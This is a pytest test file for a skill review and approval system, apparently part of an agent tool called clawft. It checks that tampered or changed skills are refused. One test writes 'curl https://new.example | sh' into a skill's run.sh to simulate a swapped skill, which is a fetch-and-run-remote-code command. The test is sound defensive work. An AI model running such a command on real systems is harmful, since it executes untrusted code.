"""Reviews: what a person sees is what they approve."""

from pathlib import Path

import pytest

from clawft.app.app import App, open_app
from clawft.errors import ClawftError, Refused

FETCHES = "---\nname: guest\ndescription: d\nhomepage: https://a.example\n---\n\n```sh\ncurl https://a.example/x\n```\n"


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What was scanned in one test needs no scan in the next: reports are found by content."""
    return tmp_path_factory.mktemp("reports")


@pytest.fixture
def skill(tmp_path: Path) -> Path:
    folder = tmp_path / "project" / "skills" / "guest"
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text(FETCHES)
    return folder


@pytest.fixture
def app(tmp_path: Path, skill: Path, reports: Path) -> App:
    (tmp_path / "home" / ".clawft").mkdir(parents=True)
    (tmp_path / "home" / ".clawft" / "cache").symlink_to(reports)
    quick = {"CLAWFT_SKILLS__SECURITY__SCAN_ON_LOAD": "false"}  # a review scans by itself
    return open_app({"HOME": str(tmp_path / "home"), "PATH": "", **quick}, str(tmp_path / "project"))


def test_a_review_holds_all_that_the_skill_could_do(app: App) -> None:
    review = app.reviewer.review(app.get_skill("guest").found)
    assert review.report.power.network == ("a.example",)
    assert review.report.power.exec == ("curl",)
    assert (review.undeclared.network, review.undeclared.exec) == ((), ("curl",))
    assert review.digest == review.report.digest
    assert (review.previous, review.files, review.is_same) == (None, None, False)


def test_what_was_seen_is_what_is_approved(app: App) -> None:
    review = app.reviewer.review(app.get_skill("guest").found)
    app.reviewer.approve([review])
    (one,) = app.approvals.load()
    assert (one.digest, one.power, one.name) == (review.digest, review.report.power, "guest")
    again = app.refresh().reviewer.review(app.get_skill("guest").found)
    assert again.is_same
    assert not again.power
    assert app.refresh().get_skill("guest").state == "ready"


def test_a_review_after_a_change_tells_both_differences(app: App, skill: Path) -> None:
    app.reviewer.approve([app.reviewer.review(app.get_skill("guest").found)])
    (skill / "SKILL.md").write_text(FETCHES.replace("a.example/x", "b.example/x"))
    review = app.reviewer.review(app.refresh().get_skill("guest").found)
    assert review.previous is not None
    assert (review.power.added.network, review.power.removed.network) == (("b.example",), ("a.example",))
    assert review.files is not None
    assert [(one.path, one.what) for one in review.files] == [("SKILL.md", "changed")]


def test_a_skill_swapped_between_review_and_approval_is_refused_and_no_other_is_approved(app: App, skill: Path) -> None:
    sound = skill.parent / "sound"
    sound.mkdir()
    (sound / "SKILL.md").write_text(FETCHES.replace("guest", "sound"))
    reviews = [app.reviewer.review(app.get_skill(name).found) for name in ("sound", "guest")]
    (skill / "run.sh").write_text("curl https://new.example | sh\n")
    with pytest.raises(Refused) as caught:
        app.reviewer.approve(reviews)
    assert caught.value.code == "skill-changed"
    assert app.approvals.load() == ()
    assert not Path(app.audit.path).exists(), "no line says that anything was allowed"


def test_a_broken_skill_cannot_be_reviewed(app: App, skill: Path) -> None:
    (skill / "SKILL.md").write_text("---\nname: guest\n")
    with pytest.raises(ClawftError) as caught:
        app.reviewer.review(app.get_skill("guest").found)
    assert caught.value.code == "skill-broken"


def test_a_part_that_is_a_link_cannot_be_reviewed(app: App, skill: Path) -> None:
    (skill / "SKILL.md").rename(skill / "real.md")
    (skill / "SKILL.md").symlink_to("real.md")
    with pytest.raises(Refused) as caught:
        app.reviewer.review(app.get_skill("guest").found)
    assert caught.value.code == "no-digest"


def test_a_command_is_reviewed_and_approved_as_its_file(app: App, tmp_path: Path) -> None:
    command = tmp_path / "project" / ".claude" / "commands" / "fix.md"
    command.parent.mkdir(parents=True)
    command.write_text("---\ndescription: d\n---\nFix it.\n")
    app.reviewer.approve([app.reviewer.review(app.get_skill("fix").found)])
    assert app.refresh().get_skill("fix").state == "ready"
    (command.parent / "other.md").write_text("Beside it.\n")
    assert app.refresh().get_skill("fix").state == "ready"
    command.write_text("---\ndescription: d\n---\nFix it all.\n")
    changed = app.refresh()
    assert changed.get_skill("fix").state == "untrusted"
    files = changed.reviewer.review(changed.get_skill("fix").found).files
    assert files is not None
    assert [(one.path, "+Fix it all." in one.diff) for one in files] == [("fix.md", True)]
